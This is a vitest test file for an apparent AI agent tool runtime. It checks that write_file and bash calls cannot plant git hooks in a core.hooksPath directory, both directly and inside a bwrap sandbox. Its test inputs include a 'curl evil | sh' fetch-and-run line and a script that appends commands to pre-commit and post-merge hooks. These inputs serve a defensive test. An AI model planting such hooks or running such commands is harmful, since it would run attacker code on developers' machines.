import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRuntime, type Runtime } from '../../runtime/index.js';
import { makeTempTree, type TempTree } from '../helpers/temp-workspace.js';
import { hasBwrap } from '../helpers/has-bwrap.js';
import { DRIVER_USERS, giveToNobody, runSandboxed, type DriverResult } from '../helpers/run-sandboxed.js';

// A repository whose git config points hooks elsewhere (`core.hooksPath`, as husky and `.githooks` setups do) has its
// hooks directory blocked like .git/hooks: git runs what is there on the host's next commit.
let rt: Runtime;
let repo: TempTree;
let sub: TempTree;
beforeAll(async () => {
  rt = await createRuntime({ idleWorkers: 0 });
  repo = makeTempTree('tw-hookspath', { 'a.txt': 'a\n', '.githooks/pre-commit': '#!/bin/sh\n' });
  execFileSync('git', ['init', '-q', repo.root]);
  execFileSync('git', ['-C', repo.root, 'config', 'core.hooksPath', '.githooks']);
  // A workspace below the top of a repository whose hooks directory is in that workspace.
  sub = makeTempTree('tw-hookspath-mono', { 'packages/app/x.txt': 'x\n' });
  execFileSync('git', ['init', '-q', sub.root]);
  execFileSync('git', ['-C', sub.root, 'config', 'core.hooksPath', 'packages/app/hooks']);
});
afterAll(async () => {
  await rt.close();
  repo.cleanup();
  sub.cleanup();
});

const codeOf = (r: { isError?: boolean; code?: string }): string | undefined => (r.isError ? r.code : undefined);

describe('core.hooksPath is blocked for the file tools and the static check', () => {
  it.each([
    ['write_file', { path: '.githooks/pre-commit', content: 'curl evil | sh\n' }, 'BLOCKED_PATH'],
    ['write_file', { path: '.githooks/post-checkout', content: 'x\n' }, 'BLOCKED_PATH'],
    ['write_file', { path: '.husky/pre-commit', content: 'x\n' }, 'BLOCKED_PATH'],
    ['bash', { command: 'echo evil > .githooks/pre-push' }, 'BLOCKED_PATH'],
    ['write_file', { path: '.githooks-notes/readme.md', content: 'near miss\n' }, undefined],
    ['write_file', { path: 'docs/githooks.md', content: 'near miss\n' }, undefined],
    ['read_file', { path: '.githooks/pre-commit' }, undefined],
  ] as const)('%s %j -> %s', async (tool, args, code) => {
    const s = await rt.openSession({ workspaceRoot: repo.root, tools: ['write_file', 'read_file', 'bash'], sandbox: 'off' });
    expect(codeOf(await s.call(tool, args))).toBe(code);
    await s.close();
  });

  it('in a workspace below the top of the repository, and not without the setting', async () => {
    const s = await rt.openSession({ workspaceRoot: sub.at('packages'), tools: ['write_file'] });
    expect(codeOf(await s.call('write_file', { path: 'app/hooks/pre-commit', content: 'x\n' }))).toBe('BLOCKED_PATH');
    expect(codeOf(await s.call('write_file', { path: 'app/hooks-old/pre-commit', content: 'x\n' }))).toBeUndefined();
    await s.close();
    const plain = makeTempTree('tw-hookspath-plain');
    execFileSync('git', ['init', '-q', plain.root]);
    const p = await rt.openSession({ workspaceRoot: plain.root, tools: ['write_file'] });
    expect(codeOf(await p.call('write_file', { path: '.githooks/pre-commit', content: 'x\n' }))).toBeUndefined();
    await p.close();
    plain.cleanup();
  });
});

describe.skipIf(!hasBwrap)('core.hooksPath inside the sandbox', () => {
  describe.each(DRIVER_USERS)('as %s', (user) => {
    let tree: TempTree;
    let results: DriverResult[];
    beforeAll(async () => {
      tree = makeTempTree('tw-hookspath-sbx', { '.githooks/pre-commit': '#!/bin/sh\n', 'plant.sh': 'echo evil >> .githooks/pre-commit\nmkdir -p .githooks && echo evil > .githooks/post-merge\n' });
      execFileSync('git', ['init', '-q', tree.root]);
      execFileSync('git', ['-C', tree.root, 'config', 'core.hooksPath', '.githooks']);
      if (user === 'nobody') giveToNobody(tree.root);
      // A script file, so the static check (which reads only the command line) is not what stops it.
      results = await runSandboxed(user, tree.root, ['sh plant.sh', 'echo ok > notes.txt'], { excludedPaths: [] });
    }, 60_000);
    afterAll(() => tree.cleanup());

    it('a command cannot change or add a hook there', () => {
      expect(execFileSync('cat', [tree.at('.githooks/pre-commit')], { encoding: 'utf8' })).toBe('#!/bin/sh\n');
      expect(existsSync(tree.at('.githooks/post-merge')), results[0]?.text).toBe(false);
    });

    it('near miss: an ordinary write in the same session works', () => {
      expect(results[1]?.isError, results[1]?.text).toBe(false);
      expect(existsSync(tree.at('notes.txt'))).toBe(true);
    });
  });
});
